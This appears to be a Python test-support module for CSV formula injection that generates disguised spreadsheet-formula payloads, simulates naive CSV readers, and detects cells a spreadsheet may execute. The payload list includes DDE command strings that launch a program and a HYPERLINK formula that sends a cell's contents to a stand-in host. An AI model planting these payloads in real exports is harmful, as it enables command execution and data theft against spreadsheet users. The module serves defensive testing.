"""Thousands of texts that some spreadsheet may run, and how simple readers cut a CSV into cells."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import product

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test/?"&A1,"y")', "%0A=1+1",
    "|calc", "-2+3+cmd|' /C calc'!A0", "- cmd|' /C calc'!A0", "- SUM(1+1)", "+ [x.xls]S!A1", "\uff1d1+1", "\uff0b1+1",
    "\uff0d1+1", "\uff20SUM(1+1)",
]  # fmt: skip
DISGUISES = ["", " ", "\u00a0", "\ufeff", "\u200b", "\u2060 ", "'", "''", '"', '""', '" ', "' "]
SEPARATORS = [";", "\t", "|", "\n", "\r", "\r\n"]
SURROUNDINGS = ["{}", "a{}", 'a "b"{}', '{}"', "a{}; b"]
_LIKE_A_FORMULA = re.compile(r"[\s\ufeff\u200b-\u200f\u2060]*[=+\-@%|\uff1d\uff0b\uff0d\uff20]")
_HARMLESS = re.compile(
    r' *[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)? *|[\s\ufeff\u200b-\u200f\u2060]*[+-] [^(!|:\["]*', re.ASCII
)
_PIECES = re.compile("[;\t\r\n]")


def payloads() -> list[str]:
    """The same ones each time, in the same order: formulas at the start of a cell, and behind separators within one."""
    hidden = ["".join(parts) for parts in product(DISGUISES, FORMULAS)]
    inside = (f"{separator}{one}" for separator, one in product(SEPARATORS, hidden))
    return hidden + [around.format(one) for one, around in product(inside, SURROUNDINGS)]


def rows(cells: list[str]) -> str:
    """A CSV with these cells in the middle of its rows; the first cell of each names it."""
    return "".join(f"k{number},{cell},z\n" for number, cell in enumerate(cells))


def cells_without_quotes(row: str, separator: str) -> Iterator[str]:
    """The cells of a row for a reader that splits wherever the separator stands, and drops quotes."""
    yield from re.split(f"[{separator}\r\n]", row.replace('"', ""))


def cells_with_quotes(row: str, separator: str) -> Iterator[str]:
    """The cells of a row for a reader to whom quotes count where a cell begins with one."""
    at = 0
    while at <= len(row):
        quoted = re.compile(r'"((?:[^"]|"")*)("|$)').match(row, at)
        behind = quoted.end() if quoted else at
        end = re.compile(f"[^{separator}\r\n]*").match(row, behind)
        assert end is not None
        yield (quoted[1].replace('""', '"') if quoted else "") + row[behind : end.end()]
        at = end.end() + 1


def may_run(cell: str) -> bool:
    """Whether a reader that strips whatever it likes may take a cell for a formula."""
    if not _LIKE_A_FORMULA.match(cell):
        return False
    first = _PIECES.split(cell)[0]
    return _HARMLESS.fullmatch(first) is None
